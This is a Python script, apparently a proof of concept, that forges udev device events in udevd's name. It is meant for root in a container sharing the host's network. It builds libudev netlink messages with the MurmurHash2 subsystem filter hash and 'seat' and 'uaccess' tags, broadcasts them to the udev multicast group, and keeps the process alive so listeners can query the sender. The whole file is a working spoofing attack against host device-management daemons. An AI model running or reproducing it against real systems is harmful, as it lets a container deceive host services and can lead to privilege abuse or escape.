"""Sends, in udevd's name, that devices came and went which did not: run by root in a container that has the host's network.

    python3 forged.py ACTION DEVPATH SUBSYSTEM [KEY=VALUE ...]
The form is that of systemd's src/libsystemd/sd-device/device-monitor.c, with the hash by which libudev filters in the kernel.
"""
import signal
import socket
import struct
import sys

NETLINK_KOBJECT_UEVENT, UDEV_GROUP = 15, 2


def murmur2(data, seed=0):
    """Austin Appleby's MurmurHash2, which is what libudev takes."""
    multiplier, mask = 0x5BD1E995, 0xFFFFFFFF
    value = (seed ^ len(data)) & mask
    whole = len(data) // 4 * 4
    for (word,) in struct.iter_unpack("<I", data[:whole]):
        word = word * multiplier & mask
        word = (word ^ word >> 24) * multiplier & mask
        value = value * multiplier & mask ^ word
    tail = data[whole:]
    if tail:
        value = (value ^ int.from_bytes(tail, "little")) * multiplier & mask
    value = (value ^ value >> 13) * multiplier & mask
    return value ^ value >> 15


def message(action, devpath, subsystem, *more):
    properties = b"".join(text.encode() + b"\0" for text in (
        f"ACTION={action}", f"DEVPATH={devpath}", f"SUBSYSTEM={subsystem}", "SEQNUM=999999", "TAGS=:seat:uaccess:", *more))
    hashes = struct.pack(">I", murmur2(subsystem.encode())) + bytes(4) + b"\xff" * 8  # no devtype, every tag
    return struct.pack("=8s", b"libudev") + struct.pack(">I", 0xFEEDCAFE) + struct.pack("=III", 40, 40, len(properties)) + hashes + properties


def main():
    forger = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_KOBJECT_UEVENT)
    forger.sendto(message(*sys.argv[1:]), (0, UDEV_GROUP))
    print("sent", flush=True)
    signal.pause()  # lives on, so that whoever heard it can still ask who it was


if __name__ == "__main__":
    main()
